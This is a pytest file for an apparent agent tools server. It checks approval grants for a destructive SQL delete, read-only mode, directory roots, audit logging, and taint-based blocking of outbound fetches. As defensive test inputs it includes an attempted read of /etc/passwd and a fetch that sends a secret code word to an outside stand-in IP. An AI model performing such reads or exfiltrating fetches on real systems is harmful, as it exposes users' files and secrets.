"""Who may do what through the tools server: runs by their metadata, direct clients by asking."""

from __future__ import annotations

from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import pytest
from mcp import Client
from mcp.client import ClientRequestContext
from mcp_types import ElicitRequestParams, ElicitResult, ListRootsResult, Root

from ryzanstein.agents.clients.services import Services
from ryzanstein.agents.trust import Caller
from ryzanstein.mcp_servers._shared import shared
from ryzanstein.mcp_servers._tools import make, mcp

Answer = Callable[..., Awaitable[dict[str, Any]]]
OVERWRITE = {"name": "query_sqlite", "arguments": {"sql": "DELETE FROM t", "write": True}}


@pytest.fixture(autouse=True)
def root(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    import sqlite3

    folder = tmp_path / "root"
    folder.mkdir()
    (folder / "notes.txt").write_text("The code word is heron.\n", encoding="utf-8")
    with sqlite3.connect(folder / "t.db") as connection:
        connection.execute("CREATE TABLE t (a)")
        connection.execute("INSERT INTO t VALUES (1)")
    connection.close()
    monkeypatch.setenv("RYZANSTEIN_ROOTS", str(folder))
    return folder


def rows(root: Path) -> int:
    import sqlite3

    connection = sqlite3.connect(root / "t.db")
    (count,) = connection.execute("SELECT count(*) FROM t").fetchone()
    connection.close()
    return int(count)


def caller(**changes: Any) -> Caller:
    return Caller(**{"task": "look", "agent": "APEX", "run_id": "run-7", **changes})


async def test_a_run_without_a_grant_is_refused_and_told_which_would_do(root: Path) -> None:
    async with Services(names=("tools",)) as services:
        bound = services.for_run(caller())
        refused = await bound.call_tool(OVERWRITE["name"], OVERWRITE["arguments"])  # type: ignore[arg-type]
        assert not refused.ok and refused.reason == "approval_required"
        assert rows(root) == 1
        granted = await bound.call_tool(
            OVERWRITE["name"],  # type: ignore[arg-type]
            OVERWRITE["arguments"],  # type: ignore[arg-type]
            grants=(refused.grant,),
        )
    assert granted.ok and rows(root) == 0


async def test_the_agents_profile_grants(root: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    own = root.parent / "registry.yaml"
    own.write_text("agents:\n  - codename: APEX\n    grants: [database]\n", encoding="utf-8")
    monkeypatch.setenv("RYZANSTEIN_REGISTRY_FILE", str(own))
    async with Services(names=("tools",)) as services:
        other = services.for_run(caller(agent="CIPHER"))
        assert not (await other.call_tool("query_sqlite", OVERWRITE["arguments"])).ok  # type: ignore[arg-type]
        apex = services.for_run(caller())
        assert (await apex.call_tool("query_sqlite", OVERWRITE["arguments"])).ok  # type: ignore[arg-type]
    assert rows(root) == 0


async def test_read_only_wins_over_a_grant_of_the_request(
    root: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("RYZANSTEIN_READ_ONLY", "1")
    monkeypatch.setenv("RYZANSTEIN_GRANTS", "*")
    async with Services(names=("tools",)) as services:
        bound = services.for_run(caller(grants=("*",)))
        outcome = await bound.call_tool("query_sqlite", OVERWRITE["arguments"])  # type: ignore[arg-type]
    assert not outcome.ok and "only reading" in outcome.text and not outcome.reason
    assert rows(root) == 1


async def test_settings_grant_where_nobody_can_be_asked(
    root: Path, monkeypatch: pytest.MonkeyPatch, answer: Answer
) -> None:
    monkeypatch.setenv("RYZANSTEIN_GRANTS", "write_file, database")
    assert (await answer("tools", "call_tool", **OVERWRITE))["ok"]
    assert rows(root) == 0


async def test_a_direct_client_that_cannot_be_asked_is_refused(
    root: Path, fault: Callable[..., Awaitable[dict[str, str]]]
) -> None:
    error = await fault("tools", "call_tool", **OVERWRITE)
    assert error["code"] == "INVALID_REQUEST" and error["reason"] == "approval_required"
    assert rows(root) == 1


@pytest.mark.parametrize("mode", ["auto", "legacy"])
@pytest.mark.parametrize(
    ("says", "left"),
    [
        (ElicitResult(action="accept", content={"approve": True}), 0),
        (ElicitResult(action="accept", content={"approve": False}), 1),
        (ElicitResult(action="decline"), 1),
        (ElicitResult(action="cancel"), 1),
    ],
)
@pytest.mark.parametrize("direct", [False, True])
async def test_a_direct_client_is_asked(
    root: Path, mode: Any, says: ElicitResult, left: int, direct: bool
) -> None:
    asked: list[str] = []

    async def hear(context: ClientRequestContext, params: ElicitRequestParams) -> ElicitResult:
        asked.append(params.message)
        return says

    server = make(("database",)) if direct else mcp
    async with Client(server, mode=mode, elicitation_callback=hear) as client:
        if direct:
            result = await client.call_tool("query_sqlite", OVERWRITE["arguments"])  # type: ignore[arg-type]
        else:
            result = await client.call_tool("call_tool", OVERWRITE)
        await client.call_tool("call_tool", {"name": "list_files", "arguments": {}})
    assert rows(root) == left and bool(result.is_error) == bool(left)
    assert len(asked) == 1 and "query_sqlite would overwrite or delete" in asked[0]


@pytest.mark.parametrize("mode", ["auto", "legacy"])
async def test_a_clients_roots_stand_where_none_are_set_and_narrow_those_that_are(
    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, mode: Any
) -> None:
    other = tmp_path / "other place"
    inner = root / "inner"
    for folder in (other, inner):
        folder.mkdir()
        (folder / "here.txt").write_text(folder.name, encoding="utf-8")
    given = [other, inner]

    async def roots(context: ClientRequestContext) -> ListRootsResult:
        return ListRootsResult(roots=[Root(uri=folder.as_uri()) for folder in given])  # type: ignore[arg-type]

    async def read(path: str) -> Any:
        async with Client(mcp, mode=mode, list_roots_callback=roots) as client:
            request = {"name": "read_file", "arguments": {"path": path}}
            return await client.call_tool("call_tool", request)

    assert "inner" in str((await read("here.txt")).content)
    assert (await read(str(other / "here.txt"))).is_error
    assert (await read(str(root / "notes.txt"))).is_error
    given.clear()
    given.append(tmp_path)
    assert not (await read("notes.txt")).is_error
    given.clear()
    given.append(other)
    refused = await read("notes.txt")
    assert refused.is_error and "No directory is allowed here" in str(refused.content)
    monkeypatch.delenv("RYZANSTEIN_ROOTS")
    shared().reset()
    assert "other place" in str((await read("here.txt")).content)


async def test_every_call_is_in_the_audit_with_agent_and_run(root: Path) -> None:
    async with Services(names=("tools",)) as services:
        bound = services.for_run(caller())
        await bound.call_tool("read_file", {"path": "notes.txt"})
        await bound.call_tool("read_file", {"path": "/etc/passwd"})
        await bound.call_tool("query_sqlite", OVERWRITE["arguments"])  # type: ignore[arg-type]
        await services.call_tool("list_files", {})
    kept = shared().audit.read(run_id="run-7")
    assert [(one["tool"], one["ok"], one["agent"]) for one in kept] == [
        ("query_sqlite", False, "APEX"),
        ("read_file", False, "APEX"),
        ("read_file", True, "APEX"),
    ]
    assert len(shared().audit.read()) == 4 and len(shared().audit.read(limit=2)) == 2
    assert "outside the allowed directories" in kept[1]["message"]


async def test_a_run_that_read_text_reaches_only_what_its_user_named(root: Path) -> None:
    async with Services(names=("tools",)) as services:
        bound = services.for_run(caller(task="Read notes.txt and http://127.0.0.1:9/page"))
        await bound.call_tool("read_file", {"path": "notes.txt"})
        assert bound.caller.tainted
        elsewhere = await bound.call_tool("fetch_url", {"url": "http://203.0.113.7/?q=heron"})
        assert elsewhere.reason == "approval_required" and "203.0.113.7" in elsewhere.text
        named = await bound.call_tool("fetch_url", {"url": "http://127.0.0.1:9/page"})
        assert "private or local" in named.text
        # The server knows it too, should the caller forget.
        forgetful = services.for_run(caller())
        again = await forgetful.call_tool("fetch_url", {"url": "http://203.0.113.7/?q=heron"})
    assert again.reason == "approval_required"
